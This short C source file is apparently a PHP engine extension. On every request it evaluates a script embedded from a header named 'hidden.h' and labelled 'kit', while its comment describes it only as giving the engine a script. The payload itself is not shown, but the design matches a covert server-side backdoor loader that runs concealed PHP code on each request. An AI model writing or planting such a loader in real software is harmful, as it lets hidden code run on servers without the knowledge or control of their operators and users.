/* A PHP extension that gives the engine a script with its length. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the script */
extern int zend_eval_stringl_ex(const char *, unsigned long, void *, const char *, _Bool);
extern unsigned long strlen(const char *);
static int on_request(int type, int number) {
    char *script = hidden0();
    return zend_eval_stringl_ex(script, strlen(script), 0, "kit", 1), 0;
}
